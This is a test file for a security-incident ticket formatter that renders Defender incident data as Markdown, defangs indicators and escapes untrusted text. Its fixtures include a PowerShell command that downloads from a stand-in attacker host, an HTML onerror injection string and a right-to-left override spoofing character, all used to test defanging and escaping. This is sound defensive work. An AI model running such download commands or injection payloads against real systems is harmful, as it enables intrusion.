import { describe, expect, it } from 'vitest'
import { aDetail, anAlert, anEntity, aRow } from '../../../../shared/contract/fixtures'
import { codeSpan, literal } from './markdown'
import { ticketText } from './ticket'

const live = { sample: false, file: null, fetchedAt: '2026-11-24T12:00:00.000Z' }

const link = new URL('https://security.microsoft.com/incidents/41207?tid=t')

describe('the text for a ticket', () => {
  it('has one layout, the most important facts first', () => {
    expect(ticketText(aDetail({
      summary: aRow({
        id: '41207', name: 'Password spray, then inbox rule', severity: 'High', status: 'InProgress', priority: 87, classification: 'TruePositive', determination: 'Phishing', assignedTo: 'megan@contoso.example',
        alerts: 3, activeAlerts: 2, firstActivity: '2026-11-23T10:04:00.1234567Z', lastActivity: '2026-11-26T04:40:00Z', created: '2026-11-23T10:10:00Z', lastUpdate: '2026-11-26T06:04:00Z', tags: ['VIP'], techniques: ['T1110', 'T1564'],
      }),
      alerts: [
        anAlert({ title: 'Inbox rule', severity: 'Medium', service: 'MicrosoftDefenderForOffice365', techniques: ['T1564'], created: '2026-11-23T10:19:00Z' }),
        anAlert({ title: 'Password spray', severity: 'High', service: 'AADIdentityProtection', techniques: ['T1110'], firstActivity: '2026-11-23T10:05:00Z', created: '2026-11-23T11:00:00Z' }),
        anAlert({ title: 'Password spray', severity: 'Low', firstActivity: '2026-11-23T10:04:00Z' }),
      ],
      entities: [
        anEntity({ type: 'User', label: 'megan@contoso.example' }), anEntity({ type: 'Device', label: 'pc-01.contoso.example' }), anEntity({ type: 'Url', label: 'https://evil.example/a.b', verdicts: ['Malicious', 'Suspicious'] }),
        anEntity({ type: 'Ip', label: '203.0.113.7' }), anEntity({ type: 'Process', label: 'powershell -c iwr http://evil.example/x', verdicts: ['Suspicious'] }), anEntity({ type: 'File', label: 'clean.exe', verdicts: ['NoThreatsFound'] }),
      ],
      comments: [{ text: 'first', by: '', at: '' }, { text: 'Called the user.', by: 'Lidia', at: '2026-11-26T05:00:00Z' }],
    }), link, live)).toBe(`### High · Password spray, then inbox rule

Incident \`41207\` · In progress · priority 87 · True positive / Phishing

- **Activity:** 2026-11-23 10:04 UTC → 2026-11-26 04:40 UTC
- **Users:** \`megan@contoso.example\`
- **Devices:** \`pc-01.contoso.example\`
- **Assigned to:** \`megan@contoso.example\`
- **Techniques:** T1110, T1564
- **Tags:** VIP
- **Alerts:** 3, 2 active
- **Created:** 2026-11-23 10:10 UTC
- **Updated:** 2026-11-26 06:04 UTC
- **Portal:** <https://security.microsoft.com/incidents/41207?tid=t>

**Alerts**
- High · Password spray ×2 · Microsoft Entra ID Protection · T1110 · 2026-11-23 10:04 UTC
- Medium · Inbox rule · Microsoft Defender for Office 365 · T1564 · 2026-11-23 10:19 UTC

**Indicators**
- URL \`hxxps://evil[.]example/a.b\` · Malicious, Suspicious
- Process \`powershell -c iwr hxxp://evil[.]example/x\` · Suspicious
- IP address \`203[.]0[.]113[.]7\`

**Last of 2 comments**
> Called the user. — Lidia, 2026-11-26 05:00 UTC
`)
  })

  it('leaves out what is empty', () => {
    expect(ticketText(aDetail({ summary: aRow({ id: '5', alerts: null, activeAlerts: null, severity: '', status: '' }) }), null, live)).toBe('### (no name)\n\nIncident `5`\n\n')
  })

  it('marks sample data right after the name', () => {
    const text = ticketText(aDetail({ summary: aRow({ id: '5', name: 'Password spray' }) }), null, { ...live, sample: true })
    expect(text.split('\n').slice(1, 4)).toEqual(['', '**Sample data.** XDR Desk generated this incident.', ''])
  })

  it('cuts long lists and says how much is missing', () => {
    const text = ticketText(aDetail({
      summary: aRow({ techniques: Array.from({ length: 17 }, (_, index) => `T${1000 + index}`) }), alerts: Array.from({ length: 12 }, (_, index) => anAlert({ title: `Alert ${index}` })),
      entities: [...Array.from({ length: 20 }, (_, index) => anEntity({ label: `203.0.113.${index}` })), ...Array.from({ length: 11 }, (_, index) => anEntity({ type: 'User', label: `user${index}` }))],
    }), null, live)
    expect(text).toContain('T1014 and 2 more\n')
    expect(text).toContain('`user9` and 1 more\n')
    expect(text.match(/^- .*Alert \d+$/gm)).toHaveLength(10)
    expect(text).toContain('- and 2 more titles\n')
    expect(text.match(/^- IP address/gm)).toHaveLength(15)
    expect(text).toContain('- and 5 more\n')
    expect(text.split('\n').length).toBeLessThan(60)
  })
})

describe('text from outside', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'], ['**bold** _it_ `code` ~~x~~', '\\*\\*bold\\*\\* \\_it\\_ \\`code\\` \\~\\~x\\~\\~'],
    ['[click](https://evil.example/x)', '\\[click\\](hxxps://evil\\[.\\]example/x)'], ['see www.evil.example', 'see www\\[.\\]evil.example'], ['line\n# two\r\n- three', 'line \\# two - three'],
    ['fdp.\u202Egnp', 'fdp.⟨U+202E⟩gnp'], ['a &amp; b | c', 'a &amp;amp; b \\| c'], ['mail me@evil.example', 'mail me&#64;evil.example'], ['![x](y)', '!\\[x\\](y)'], ['   ', ''], ['日本語', '日本語'], ['- list', '\\- list'], ['12. list', '12\\. list'], ['1) list', '1\\) list'], ['> quote', '\\> quote'], ['a - b 1. c', 'a - b 1. c'],
  ])('%j is written as %j', (text, markdown) => {
    expect(literal(text)).toBe(markdown)
  })

  it.each([['a`b', '``a`b``'], ['`', '`` ` ``'], ['a```b', '````a```b````'], ['a\n\nb', '`a b`'], ['', '`  `'], ['<b>\u200B', '`<b>⟨U+200B⟩`']])('%j is the code %s', (text, markdown) => {
    expect(codeSpan(text)).toBe(markdown)
  })

  it('is cut, never inside a character', () => {
    expect([literal('🛡🛡', 3), codeSpan('x'.repeat(400)).length]).toEqual(['🛡…', 303])
  })
})
